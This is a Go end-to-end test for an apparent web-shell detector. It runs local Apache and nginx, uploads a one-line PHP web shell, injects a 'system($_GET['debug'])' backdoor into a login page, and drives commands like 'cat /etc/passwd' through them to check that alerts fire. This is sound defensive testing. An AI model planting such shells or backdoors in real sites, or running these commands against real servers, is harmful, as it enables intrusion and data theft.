@@ -1,0 +1,444 @@
+//go:build linux
+
+package tests
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"webshellbeat/detection"
+)
+
+// The founding document's Linux rule (parent httpd/nginx/apache2 -> sh as
+// www-data, level high). With parent names from /proc it also fires on the
+// benign status page (apache2 -> sh -c uptime): a known false positive of
+// that rule, reported by the test rather than failed on.
+const seedLinuxRule = "a23456789-abcd012345-bcd678901234"
+
+// The pack's medium rule for any shell run by a web-server account.
+const shellByWebUserRule = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a06"
+
+type liveSite struct {
+	server string // apache or nginx
+	port   int
+	root   string
+	log    string
+	parent []string // acceptable web-server process names in the ancestry
+}
+
+var liveSites = []liveSite{
+	{"apache", 18080, "/var/www/wsb-apache", "/var/log/apache2/wsb-access.log", []string{"apache2"}},
+	{"nginx", 18081, "/var/www/wsb-nginx", "/var/log/nginx/wsb-access.log", []string{"php-fpm8.2", "php-fpm"}},
+}
+
+// liveReady skips (or, in CI with WEBSHELLBEAT_LIVE set, fails) when the
+// machine cannot run the live test. It returns the php-fpm binary.
+func liveReady(t *testing.T) string {
+	t.Helper()
+	if os.Getenv("WEBSHELLBEAT_LIVE") != "1" {
+		t.Skip("set WEBSHELLBEAT_LIVE=1 (after .ci/linux-e2e.sh) to run the live audit test")
+	}
+	missing := func(why string) {
+		if os.Getenv("CI") != "" {
+			t.Fatalf("live audit test: %s (CI and WEBSHELLBEAT_LIVE are set: run .ci/linux-e2e.sh as root first)", why)
+		}
+		t.Skipf("live audit test: %s", why)
+	}
+	if os.Geteuid() != 0 {
+		missing("needs root")
+	}
+	for _, tool := range []string{"auditctl", "apache2ctl", "nginx", "curl"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			missing(tool + " not found")
+		}
+	}
+	fpms, _ := filepath.Glob("/usr/sbin/php-fpm*")
+	if len(fpms) == 0 {
+		missing("php-fpm not found")
+	}
+	sort.Strings(fpms)
+	for _, f := range []string{"/etc/apache2/sites-enabled/wsb.conf", "/etc/nginx/sites-enabled/wsb", "/var/www/wsb-apache/upload.php", "/var/www/wsb-nginx/login.php"} {
+		if _, err := os.Stat(f); err != nil {
+			missing(f + " missing: the sites are not configured")
+		}
+	}
+	return fpms[len(fpms)-1]
+}
+
+func sh(t *testing.T, name string, args ...string) {
+	t.Helper()
+	out, err := exec.Command(name, args...).CombinedOutput()
+	if err != nil {
+		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
+	}
+}
+
+func waitPort(t *testing.T, port int) {
+	t.Helper()
+	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
+		if c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
+			c.Close()
+			return
+		}
+	}
+	t.Fatalf("nothing listens on 127.0.0.1:%d", port)
+}
+
+// startServers starts Apache (mod_php), php-fpm and nginx and stops them at
+// cleanup.
+func startServers(t *testing.T, fpm string) {
+	t.Helper()
+	_ = os.MkdirAll("/run/php", 0o755)
+	// php-fpm8.2's own configuration names /run/php/php8.2-fpm.pid.
+	pidFile := "/run/php/php" + strings.TrimPrefix(filepath.Base(fpm), "php-fpm") + "-fpm.pid"
+	sh(t, "apache2ctl", "start")
+	t.Cleanup(func() {
+		_ = exec.Command("apache2ctl", "stop").Run()
+		waitClosed(liveSites[0].port)
+	})
+	sh(t, fpm, "-D")
+	t.Cleanup(func() {
+		b, err := os.ReadFile(pidFile)
+		var pid int
+		if err != nil {
+			return
+		}
+		if _, err := fmt.Sscan(string(b), &pid); err != nil || pid <= 0 {
+			return
+		}
+		_ = syscall.Kill(pid, syscall.SIGQUIT)
+		for i := 0; i < 100 && syscall.Kill(pid, 0) == nil; i++ {
+			time.Sleep(50 * time.Millisecond)
+		}
+	})
+	sh(t, "nginx")
+	t.Cleanup(func() {
+		_ = exec.Command("nginx", "-s", "quit").Run()
+		waitClosed(liveSites[1].port)
+	})
+	for _, s := range liveSites {
+		waitPort(t, s.port)
+	}
+}
+
+func waitClosed(port int) {
+	for i := 0; i < 100; i++ {
+		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
+		if err != nil {
+			return
+		}
+		c.Close()
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+func curl(t *testing.T, args ...string) string {
+	t.Helper()
+	out, err := exec.Command("curl", append([]string{"-sS", "--max-time", "10"}, args...)...).CombinedOutput()
+	if err != nil {
+		t.Fatalf("curl %v: %v\n%s", args, err, out)
+	}
+	return string(out)
+}
+
+// TestLiveLinuxAudit runs real Apache+mod_php and nginx+php-fpm, plants a
+// web shell through an upload form and a backdoor in a login page, drives
+// them with curl and checks the alerts the beat writes from the kernel's
+// audit stream and the access logs.
+func TestLiveLinuxAudit(t *testing.T) {
+	fpm := liveReady(t)
+	if out, _ := exec.Command("pgrep", "-x", "auditd").Output(); len(bytes.TrimSpace(out)) > 0 {
+		t.Logf("auditd is running (pid %s): the input reads the multicast group beside it", bytes.TrimSpace(out))
+	}
+	rulesBefore, _ := exec.Command("auditctl", "-l").Output()
+
+	// Clean state of the sites; the planted files go at cleanup.
+	for _, s := range liveSites {
+		login := filepath.Join(s.root, "login.php")
+		orig, err := os.ReadFile(login)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() {
+			_ = os.WriteFile(login, orig, 0o644)
+			files, _ := filepath.Glob(filepath.Join(s.root, "uploads", "*"))
+			for _, f := range files {
+				_ = os.Remove(f)
+			}
+		})
+	}
+	startServers(t, fpm)
+
+	dir := t.TempDir()
+	cfg := fmt.Sprintf(`webshellbeat.inputs:
+- type: auditd
+  id: audit-live
+  web_roots: [%q, %q]
+- type: filestream
+  id: apache-live
+  paths: [%q]
+  prospector.scanner.fingerprint.enabled: false
+  prospector.scanner.check_interval: 200ms
+  processors:
+    - decode_access_log: {format: combined, server: apache}
+- type: filestream
+  id: nginx-live
+  paths: [%q]
+  prospector.scanner.fingerprint.enabled: false
+  prospector.scanner.check_interval: 200ms
+  processors:
+    - decode_access_log: {format: combined, server: nginx}
+processors:
+  - webshell: {events: all}
+queue.mem.flush.timeout: 0s
+output.file: {path: %q, filename: out}
+path.data: %q
+path.logs: %q
+`, liveSites[0].root, liveSites[1].root, liveSites[0].log, liveSites[1].log,
+		filepath.Join(dir, "out"), filepath.Join(dir, "data"), filepath.Join(dir, "logs"))
+	cfgPath := filepath.Join(dir, "webshellbeat.yml")
+	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	logPath := filepath.Join(dir, "beat.log")
+	logf, err := os.Create(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer logf.Close()
+	beat := exec.Command(binary, "run", "-e", "--strict.perms=false", "-c", cfgPath, "--path.home", dir)
+	beat.Stdout, beat.Stderr = logf, logf
+	if err := beat.Start(); err != nil {
+		t.Fatal(err)
+	}
+	stopped := false
+	stop := func() {
+		if stopped {
+			return
+		}
+		stopped = true
+		_ = beat.Process.Signal(syscall.SIGTERM)
+		done := make(chan error, 1)
+		go func() { done <- beat.Wait() }()
+		select {
+		case err := <-done:
+			if err != nil {
+				t.Errorf("beat exited with %v; log in %s", err, logPath)
+			}
+		case <-time.After(30 * time.Second):
+			_ = beat.Process.Kill()
+			t.Errorf("beat did not stop within 30 s; log in %s", logPath)
+		}
+	}
+	t.Cleanup(stop)
+	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
+		b, _ := os.ReadFile(logPath)
+		if bytes.Contains(b, []byte("auditd live: reading audit events from the kernel")) {
+			break
+		}
+		if time.Now().After(deadline) || beat.ProcessState != nil {
+			t.Fatalf("the auditd input did not start; log %s:\n%s", logPath, tail(b, 3000))
+		}
+	}
+
+	// Benign traffic first, including a page that legitimately runs uptime.
+	benignStart := time.Now()
+	for _, s := range liveSites {
+		base := fmt.Sprintf("http://127.0.0.1:%d", s.port)
+		curl(t, base+"/")
+		curl(t, base+"/index.php")
+		curl(t, base+"/login.php")
+		curl(t, "-d", "user=bob&password=hunter2", base+"/login.php")
+		curl(t, base+"/upload.php")
+		if out := curl(t, base+"/status.php"); !strings.Contains(out, "load average") {
+			t.Fatalf("%s status.php: %q", s.server, out)
+		}
+	}
+	time.Sleep(3 * time.Second)
+	benignEnd := time.Now()
+
+	// The attacker uploads a web shell and hides a backdoor in the login page.
+	shell := filepath.Join(dir, "avatar.php")
+	if err := os.WriteFile(shell, []byte("<?php echo shell_exec($_GET['c']); ?>\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range liveSites {
+		base := fmt.Sprintf("http://127.0.0.1:%d", s.port)
+		if out := curl(t, "-F", "file=@"+shell, base+"/upload.php"); !strings.Contains(out, "uploaded") {
+			t.Fatalf("%s upload: %q", s.server, out)
+		}
+		login := filepath.Join(s.root, "login.php")
+		orig, _ := os.ReadFile(login)
+		backdoor := "<?php if (isset($_GET['debug'])) { system($_GET['debug']); exit; } ?>\n"
+		if err := os.WriteFile(login, append([]byte(backdoor), orig...), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	type attack struct {
+		site liveSite
+		url  string
+		cmd  string
+	}
+	cmds := []string{"whoami", "id", "uname -a", "cat /etc/passwd", "echo id | sh"}
+	var attacks []attack
+	for _, s := range liveSites {
+		base := fmt.Sprintf("http://127.0.0.1:%d", s.port)
+		for _, c := range cmds {
+			attacks = append(attacks, attack{s, base + "/uploads/avatar.php?c=", c})
+		}
+		for _, c := range cmds[:2] {
+			attacks = append(attacks, attack{s, base + "/login.php?debug=", c})
+		}
+	}
+
+	var latencies []time.Duration
+	failed := 0
+	for _, a := range attacks {
+		sent := time.Now()
+		curl(t, a.url+urlQuery(a.cmd))
+		var found map[string]any
+		deadline := sent.Add(20 * time.Second)
+		for found == nil && time.Now().Before(deadline) {
+			for _, d := range readDocs(t, dir) {
+				if isShellAlert(d, a.cmd, a.site.parent, sent) {
+					found = d
+					break
+				}
+			}
+			if found == nil {
+				time.Sleep(20 * time.Millisecond)
+			}
+		}
+		if found == nil {
+			failed++
+			t.Errorf("%s %s%s: no alert for `sh -c %s` with %v in its ancestry within 20 s", a.site.server, a.url, a.cmd, a.cmd, a.site.parent)
+			continue
+		}
+		lat := time.Since(sent)
+		latencies = append(latencies, lat)
+		t.Logf("%-6s %-28s -> %q (severity %v, parent %s, ancestry %v) in %v", a.site.server, strings.TrimPrefix(a.url, "http://")+a.cmd,
+			detection.LookupString(found, "message"), lookup(found, "event.severity"), detection.LookupString(found, "process.parent.name"), ancestry(found), lat.Round(time.Millisecond))
+	}
+	if len(latencies) > 0 {
+		slices.Sort(latencies)
+		t.Logf("alert latency (curl sent -> alert in the output file) over %d commands: median %v, max %v",
+			len(latencies), latencies[len(latencies)/2].Round(time.Millisecond), latencies[len(latencies)-1].Round(time.Millisecond))
+	}
+
+	// Benign traffic raised nothing high: audit events of the benign window
+	// (kernel timestamps are exact) and the benign requests of the access
+	// logs (their timestamps have whole seconds: told apart by URL).
+	time.Sleep(2 * time.Second)
+	docs := readDocs(t, dir)
+	benignURLs := []string{"/", "/index.php", "/login.php", "/upload.php", "/status.php"}
+	for _, d := range docs {
+		if detection.LookupString(d, "event.kind") != "alert" {
+			continue
+		}
+		sev, _ := lookup(d, "event.severity").(float64)
+		if sev < 73 {
+			continue
+		}
+		benign := false
+		if u := detection.LookupString(d, "url.original"); u != "" {
+			benign = slices.Contains(benignURLs, u)
+		} else if ts, err := time.Parse(time.RFC3339Nano, detection.LookupString(d, "@timestamp")); err == nil {
+			benign = !ts.Before(benignStart) && ts.Before(benignEnd)
+		}
+		if !benign {
+			continue
+		}
+		desc := fmt.Sprintf("%q by %s (%s, parent %s): severity %v, rules %v", detection.LookupString(d, "process.command_line")+detection.LookupString(d, "url.original"),
+			detection.LookupString(d, "user.name"), detection.LookupString(d, "process.name"), detection.LookupString(d, "process.parent.name"), sev, ids(d))
+		if rest := slices.DeleteFunc(ids(d), func(id string) bool { return id == seedLinuxRule || id == shellByWebUserRule }); slices.Contains(ids(d), seedLinuxRule) && len(rest) == 0 {
+			t.Logf("KNOWN FALSE POSITIVE of the founding rule %s on benign traffic: %s", seedLinuxRule, desc)
+			continue
+		}
+		t.Errorf("benign request raised a high alert: %s", desc)
+	}
+	var requests int
+	for _, d := range docs {
+		if strings.Contains(detection.LookupString(d, "url.original"), "avatar.php?c=") {
+			requests++
+		}
+	}
+	t.Logf("%d documents written, %d web shell requests from the access logs", len(docs), requests)
+	if requests == 0 {
+		t.Errorf("the access logs' web shell requests are missing from the output")
+	}
+
+	// Stopping the beat restores the audit rules that were there before.
+	stop()
+	rulesAfter, _ := exec.Command("auditctl", "-l").Output()
+	if !bytes.Equal(rulesBefore, rulesAfter) {
+		t.Errorf("audit rules not restored:\nbefore:\n%s\nafter:\n%s", rulesBefore, rulesAfter)
+	}
+	if failed > 0 {
+		b, _ := os.ReadFile(logPath)
+		t.Logf("beat log tail:\n%s", tail(b, 4000))
+	}
+}
+
+func urlQuery(s string) string {
+	r := strings.NewReplacer(" ", "%20", "|", "%7C", "/", "%2F")
+	return r.Replace(s)
+}
+
+// isShellAlert: an alert for the process that ran cmd (sh -c cmd, or cmd
+// itself), as a web-server user, with a web-server process in its ancestry,
+// at or after sent.
+func isShellAlert(d map[string]any, cmd string, parents []string, sent time.Time) bool {
+	if detection.LookupString(d, "event.kind") != "alert" {
+		return false
+	}
+	cl := detection.LookupString(d, "process.command_line")
+	if cl != "sh -c "+cmd && cl != cmd {
+		return false
+	}
+	ts, err := time.Parse(time.RFC3339Nano, detection.LookupString(d, "@timestamp"))
+	if err != nil || ts.Before(sent.Add(-time.Second)) {
+		return false
+	}
+	names := append([]string{detection.LookupString(d, "process.parent.name")}, ancestry(d)...)
+	for _, n := range names {
+		if slices.Contains(parents, n) {
+			return true
+		}
+	}
+	return false
+}
+
+func ancestry(d map[string]any) []string {
+	v, _ := detection.Lookup(d, "auditd.ancestry")
+	list, _ := v.([]any)
+	var out []string
+	for _, a := range list {
+		m, _ := a.(map[string]any)
+		n, _ := m["name"].(string)
+		out = append(out, n)
+	}
+	return out
+}
+
+func lookup(d map[string]any, key string) any {
+	v, _ := detection.Lookup(d, key)
+	return v
+}
+
+func tail(b []byte, n int) string {
+	if len(b) > n {
+		b = b[len(b)-n:]
+	}
+	return string(b)
+}
